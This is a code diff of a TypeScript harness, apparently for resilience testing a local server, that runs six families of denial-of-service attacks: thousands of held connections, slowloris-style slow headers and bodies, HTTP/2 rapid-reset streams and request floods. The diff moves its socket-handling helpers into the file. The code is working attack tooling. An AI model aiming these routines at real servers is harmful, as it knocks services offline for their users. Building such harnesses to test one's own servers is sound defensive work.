@@ -1,13 +1,9 @@
 /** Six families of attacks, run in a process of their own: `attackers.ts NAME URL`. Ends with its parent. */
-import type net from "node:net";
+import { once } from "node:events";
+import net from "node:net";
 import { setPriority } from "node:os";
-import { Tally } from "./attacks/attack.js";
-import { keepConnected } from "./attacks/wire/crowd.js";
-import { countResponses, encodeHead, pump } from "./attacks/wire/http1.js";
-import { encodeStart, Http2Connection, type Http2Options } from "./attacks/wire/http2-connection.js";
-import * as frames from "./attacks/wire/http2-frames.js";
-import type { FamilyName } from "./families.js";
-import { TRANSFER_FACTORY } from "./families.js";
+import * as http2 from "./attacking-http2.js";
+import { type FamilyName, Tally, TRANSFER_FACTORY } from "./families.js";
 
 const [name = "", url = ""] = process.argv.slice(2);
 const { hostname: host, port } = new URL(url);
@@ -21,17 +17,80 @@ const STREAMS = [100, 256];
 const BODY_BYTES = 1024 * 1024;
 const PERIOD_MS = 1_000;
 
-type Use = (socket: net.Socket, index: number) => void;
+const TICK_MS = 20;
+/** 1,000 a second. */
+const MAX_OPENS_PER_TICK = 20;
+/** A fraction of the 511 that wait to be accepted, so that the queue is not what is attacked. */
+const MAX_CONNECTING = 100;
 
-const keep = (count: number, use: Use) =>
-  keepConnected({ url, host, port: Number(port), from: "127.0.0.1" }, tally, stopped.signal, { count, use });
+/** Keeps `count` connections open, opening others for those that close, until it is stopped; then destroys them all. */
+async function keep(count: number, use: (socket: net.Socket, index: number) => void): Promise<void> {
+  const sockets = new Set<net.Socket>();
+  let connecting = 0;
+  const open = () => {
+    const socket = net.connect({ host, port: Number(port), noDelay: true }).on("error", () => undefined);
+    sockets.add(socket);
+    connecting++;
+    let isConnected = false;
+    socket.once("connect", () => {
+      isConnected = true;
+      connecting--;
+      use(socket, tally.opened++);
+    });
+    socket.once("close", () => {
+      sockets.delete(socket);
+      tally.sentBytes += socket.bytesWritten;
+      if (!isConnected) connecting--;
+      if (stopped.signal.aborted) return;
+      if (isConnected) tally.closed++;
+      else tally.refused++;
+    });
+  };
+  const timer = setInterval(() => {
+    const max = Math.min(MAX_OPENS_PER_TICK, MAX_CONNECTING - connecting, count - sockets.size);
+    for (let opens = 0; opens < max; opens++) open();
+  }, TICK_MS);
+  if (!stopped.signal.aborted) await once(stopped.signal, "abort");
+  clearInterval(timer);
+  const closes = [...sockets].map((socket) => once(socket, "close"));
+  for (const socket of sockets) socket.destroy();
+  await Promise.all(closes);
+}
+
+/** Counts responses by status. A status line that two reads share is not counted. */
+function countResponses(socket: net.Socket, then?: () => void): void {
+  socket.on("data", (chunk: Buffer) => {
+    const matches = chunk.toString("latin1").matchAll(/HTTP\/1\.1 (\d{3})/g);
+    let count = 0;
+    for (const [, status = ""] of matches) {
+      tally.answer(status);
+      if (status !== "100") count++;
+    }
+    if (count > 0) then?.();
+  });
+}
+
+/** Writes chunks as fast as the other end takes them, until the socket closes. */
+function pump(socket: net.Socket, nextChunk: () => Buffer): void {
+  const write = () => {
+    if (socket.destroyed) return;
+    if (socket.write(nextChunk())) setImmediate(write);
+    else socket.once("drain", write);
+  };
+  write();
+}
+
+function encodeHead(method: string, path: string, headers: Readonly<Record<string, string>> = {}): Buffer {
+  const lines = Object.entries({ Host: "localhost", ...headers }).map(([header, value]) => `${header}: ${value}\r\n`);
+  return Buffer.from(`${method} ${path} HTTP/1.1\r\n${lines.join("")}\r\n`, "latin1");
+}
 
 const body = Buffer.from(TRANSFER_FACTORY.body);
 const post = (path: string, length: number) =>
   encodeHead("POST", path, { "Content-Type": "application/json", "Content-Length": String(length) });
 const call = Buffer.concat([post(TRANSFER_FACTORY.path, body.length), body]);
-const postBlock = frames.encodeRequestBlock("POST", TRANSFER_FACTORY.path, JSON_TYPE);
-const getBlock = frames.encodeRequestBlock("GET", DOCS);
+const postBlock = http2.encodeRequestBlock("POST", TRANSFER_FACTORY.path, JSON_TYPE);
+const getBlock = http2.encodeRequestBlock("GET", DOCS);
 
 /** Writes again and again until the connection closes. */
 function repeat(socket: net.Socket, bytes: string | Buffer): void {
@@ -40,28 +99,33 @@ function repeat(socket: net.Socket, bytes: string | Buffer): void {
 }
 
 /** Requests on all streams; where one ends, another follows. */
-function fillStreams(socket: net.Socket, options: Http2Options, blocks: readonly Buffer[], content?: Buffer): void {
+function fillStreams(
+  socket: net.Socket,
+  options: http2.Http2Options,
+  blocks: readonly Buffer[],
+  content?: Buffer,
+): void {
   let requests = 0;
   const next = () => {
     const block = blocks[requests++ % blocks.length] ?? postBlock;
     const sent = content === undefined ? { content: body, ends: true } : { content, ends: false };
     connection.request(block, block === getBlock ? undefined : sent);
   };
-  const connection = new Http2Connection(socket, tally, { ...options, onStreamEnd: next });
+  const connection = new http2.Http2Connection(socket, tally, { ...options, onStreamEnd: next });
   for (let stream = 0; stream < (STREAMS[tally.opened % STREAMS.length] ?? 0); stream++) next();
 }
 
 /** DATA that belongs to no stream. */
-const broken = frames.encodeFrame(frames.TYPE.data, 0, 0, Buffer.from("broken"));
+const broken = http2.encodeFrame(http2.TYPE.data, 0, 0, Buffer.from("broken"));
 
 const attacks: Readonly<Record<FamilyName, () => Promise<unknown>>> = {
   connections: () => {
     const begins = [
       Buffer.alloc(0),
       Buffer.from("P"),
-      encodeStart(),
+      http2.encodeStart(),
       encodeHead("GET", "/livez"),
-      Buffer.concat([encodeStart(0), broken]),
+      Buffer.concat([http2.encodeStart(0), broken]),
     ];
     return keep(9_000, (socket, index) => {
       socket.resume().write(begins[index % begins.length] ?? "");
@@ -69,15 +133,15 @@ const attacks: Readonly<Record<FamilyName, () => Promise<unknown>>> = {
   },
   "slow headers": () =>
     keep(3_000, (socket, index) => {
-      socket.resume().write(index % 2 === 0 ? "POST / HTTP/1.1\r\nX: " : encodeStart());
+      socket.resume().write(index % 2 === 0 ? "POST / HTTP/1.1\r\nX: " : http2.encodeStart());
       // The frame announces more than ever arrives.
-      if (index % 2 === 1) socket.write(frames.encodeFrameHead(frames.TYPE.headers, 5, 1, 16_000));
+      if (index % 2 === 1) socket.write(http2.encodeFrameHead(http2.TYPE.headers, 5, 1, 16_000));
       repeat(socket, "a");
     }),
   "slow bodies": () =>
     Promise.all([
       keep(1_200, (socket) => {
-        countResponses(socket, tally, () => socket.destroy());
+        countResponses(socket, () => socket.destroy());
         socket.write(post(TRANSFER_FACTORY.path, BODY_BYTES));
         socket.write(Buffer.alloc(BODY_BYTES - 1, " "));
       }),
@@ -97,11 +161,11 @@ const attacks: Readonly<Record<FamilyName, () => Promise<unknown>>> = {
     Promise.all([
       keep(50, (socket) => {
         let id = 1;
-        socket.resume().write(encodeStart());
+        socket.resume().write(http2.encodeStart());
         pump(socket, () => {
           tally.requests++;
-          const reset = frames.encodeUint32Frame(frames.TYPE.reset, id, frames.CANCEL);
-          const request = frames.encodeHeaders(id, postBlock, false);
+          const reset = http2.encodeUint32Frame(http2.TYPE.reset, id, http2.CANCEL);
+          const request = http2.encodeHeaders(id, postBlock, false);
           id += 2;
           return Buffer.concat([request, reset]);
         });
@@ -114,7 +178,7 @@ const attacks: Readonly<Record<FamilyName, () => Promise<unknown>>> = {
   floods: () =>
     Promise.all([
       keep(50, (socket) => {
-        countResponses(socket, tally);
+        countResponses(socket);
         pump(socket, () => {
           tally.requests++;
           return call;
